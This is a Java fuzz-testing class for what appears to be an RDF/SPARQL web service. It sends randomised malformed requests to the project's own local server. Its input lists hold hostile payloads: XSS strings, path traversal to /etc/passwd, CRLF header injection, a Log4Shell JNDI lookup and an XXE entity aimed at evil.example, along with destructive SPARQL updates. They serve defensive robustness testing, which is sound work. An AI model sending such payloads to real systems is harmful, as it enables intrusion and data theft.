package org.entente.routes;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.entente.ServedStore;

/** Makes requests of the operations of a server: with values that fit, that nearly fit, and that do not. */
final class RequestMaker {
    static final String MARKUP = "<x-fuzz onload=";

    private static final List<String> ODD = List.of(
            "",
            " ",
            "0",
            "-1",
            "99999999999999999999",
            "1e400",
            "NaN",
            "true",
            "null",
            "[]",
            "{}",
            "\"><" + MARKUP.substring(1) + "alert(1)>",
            "'" + MARKUP + "1>",
            "</script>" + MARKUP + "1>",
            "javascript:alert(1)",
            "//evil.example/",
            "https://evil.example/",
            "../../etc/passwd",
            "%00",
            "\u0000",
            "a\r\nX-Injected: 1",
            "\u202Eabc\u0301",
            "😀",
            "Юсуф",
            "2015-06-09/..",
            "2015-13-45",
            "~2015?",
            "9.6.2015",
            "person:anna-ahorn",
            "https://w3id.org/entente/id/person/anna-ahorn",
            "https://w3id.org/entente/id/person/<x>",
            "urn:a b",
            "_:b",
            "doc:s001",
            "event:none",
            "Ahorn",
            "Anna Ahorn",
            "Q183",
            "* OR 1=1; DROP ALL",
            "${jndi:ldap://evil.example/}",
            "{{7*7}}",
            "((((((((((",
            "a".repeat(3000));
    private static final List<String> BODIES = List.of(
            "",
            "{",
            "{}",
            "[]",
            "null",
            "{\"q0\":{\"query\":\"Ahorn\",\"limit\":\"x\"}}",
            "{\"queries\":[{\"conditions\":[{\"matchType\":\"name\",\"propertyValue\":[1,{}]}]}]}",
            "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"x\",\"arguments\":[]}}",
            "a=b&a=c&%zz",
            "query=SELECT * {?s ?p ?o} LIMIT 1",
            "update=INSERT DATA { GRAPH <urn:fuzz:g> { <urn:fuzz:a> <urn:fuzz:b> 1 } }",
            "SELECT (STRLANG('','\\\\') AS ?x) (MINUTES(<http://x>) AS ?y) {}",
            "ASK { ?s <http://jena.apache.org/ARQ/property#str> (0 1) }",
            "DELETE WHERE { GRAPH ?g { ?s ?p ?o } }",
            "COPY <urn:fuzz:none> TO <urn:fuzz:x>",
            "CLEAR GRAPH <urn:fuzz:none>",
            "LOAD <file:///etc/passwd>",
            "<urn:fuzz:a> <urn:fuzz:b> ((((1)))) .",
            "<urn:fuzz:a> <urn:fuzz:b> <<( <urn:fuzz:a> <urn:fuzz:b> 1 )>> .",
            "<urn:fuzz:g> { <urn:fuzz:a> <urn:fuzz:b> \"\\u0001" + MARKUP + "1>\" }",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">&e;</rdf:RDF>",
            "{\"@context\":\"https://evil.example/c\",\"@id\":\"urn:fuzz:a\"}",
            "{\"@id\":\"x\",\"http://e/p\":[[[{}]]]}",
            "name;land\nAhorn;\"x\n",
            "name,date\n\"" + MARKUP + "1>\",2015-99\n",
            "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../a.ttl\"\r\n\r\n<a> <b> .\r\n--x--\r\n",
            "--x\r\nbroken",
            "\u0000\u0001\u0002");
    private static final List<String> TYPES = List.of(
            "application/json",
            "application/x-www-form-urlencoded",
            "application/sparql-query",
            "application/sparql-update",
            "text/turtle",
            "application/trig",
            "application/n-quads",
            "application/rdf+xml",
            "application/ld+json",
            "text/csv",
            "multipart/form-data; boundary=x",
            "text/plain",
            "x");
    private static final List<String> METHODS =
            List.of("GET", "GET", "GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH");

    private final List<Operation> operations;
    private final Random random;

    RequestMaker(List<Operation> operations, Random random) {
        // What ends or copies the service's own state belongs to other tests.
        this.operations = operations.stream()
                .filter(o -> !o.path().matches("/(backups|compact|releases/\\{id}/set-back)"))
                .toList();
        this.random = random;
    }

    /** A request; the path is that of its operation. */
    record Made(String method, String path, String address, Map<String, String> headers, byte[] body) {
        @Override
        public String toString() {
            return method + " " + address + " " + headers + " "
                    + new String(body, 0, Math.min(200, body.length), StandardCharsets.UTF_8);
        }
    }

    Made next() {
        Operation operation = any(operations);
        String method = random.nextInt(10) == 0 ? any(METHODS) : operation.method();
        String path = operation.path();
        StringBuilder query = new StringBuilder();
        Map<String, String> headers = new LinkedHashMap<>();
        for (Operation.Parameter parameter : operation.parameters()) {
            String value = value(parameter);
            switch (parameter.in()) {
                case "path" -> path = path.replace("{" + parameter.name() + "}", inPath(value));
                case "query" -> {
                    if (parameter.required() && random.nextInt(20) > 0 || random.nextInt(4) == 0) {
                        add(query, parameter.name(), value);
                        if (random.nextInt(15) == 0) {
                            add(query, parameter.name(), value(parameter));
                        }
                    }
                }
                default -> {}
            }
        }
        if (random.nextInt(10) == 0) {
            add(query, any(List.of("format", "lang", "page", "limit", "sort", "x", "view", "fragment")), any(ODD));
        }
        if (random.nextInt(2) == 0 && !operation.types().isEmpty()) {
            headers.put("Accept", any(List.copyOf(operation.types())));
        } else if (random.nextInt(4) == 0) {
            headers.put("Accept", any(List.of("text/html", "*/*", ";", "x/y", "text/turtle;q=0, application/rdf+xml")));
        }
        byte[] body = {};
        if (!method.matches("GET|HEAD|OPTIONS")) {
            headers.put(
                    "Content-Type",
                    operation.bodies().isEmpty() || random.nextInt(5) == 0
                            ? any(TYPES)
                            : any(List.copyOf(operation.bodies()))
                                    .replaceFirst("^multipart/form-data$", "multipart/form-data; boundary=x"));
            body = body(operation).getBytes(StandardCharsets.UTF_8);
            if (random.nextInt(2) == 0) {
                headers.put("Authorization", "Bearer " + ServedStore.KEY);
            }
            if (random.nextInt(3) == 0) {
                headers.put("Origin", any(List.of("https://evil.example", "null")));
            }
        }
        String address = path + query;
        try {
            URI.create("http://127.0.0.1" + address);
        } catch (IllegalArgumentException e) {
            return next();
        }
        return new Made(method, operation.path(), address, headers, body);
    }

    private String body(Operation operation) {
        String body = any(BODIES);
        if (random.nextInt(3) == 0 && !operation.parameters().isEmpty()) {
            body = any(operation.parameters()).name() + "=" + ServedStore.encoded(any(ODD)) + "&" + body;
        }
        if (random.nextInt(4) == 0 && body.length() > 2) {
            int at = random.nextInt(body.length());
            body = body.substring(0, at) + any(ODD) + body.substring(random.nextInt(at, body.length()));
        }
        return body;
    }

    private static void add(StringBuilder query, String name, String value) {
        query.append(query.isEmpty() ? '?' : '&').append(name).append('=').append(ServedStore.encoded(value));
    }

    private String inPath(String value) {
        String encoded = ServedStore.encoded(value);
        return random.nextInt(3) == 0 ? encoded : encoded.replace("%2F", "/").replace("%3A", ":");
    }

    private String value(Operation.Parameter parameter) {
        if (!parameter.examples().isEmpty() && random.nextInt(2) == 0) {
            String example = any(parameter.examples());
            return random.nextInt(5) == 0 ? example + any(ODD) : example;
        }
        if (parameter.in().equals("path") && random.nextInt(2) == 0) {
            return any(List.of("person/anna-ahorn", "doc/s001", "event/none", "merge", "0.1.0"));
        }
        return any(ODD);
    }

    private <T> T any(List<T> all) {
        return all.get(random.nextInt(all.size()));
    }
}
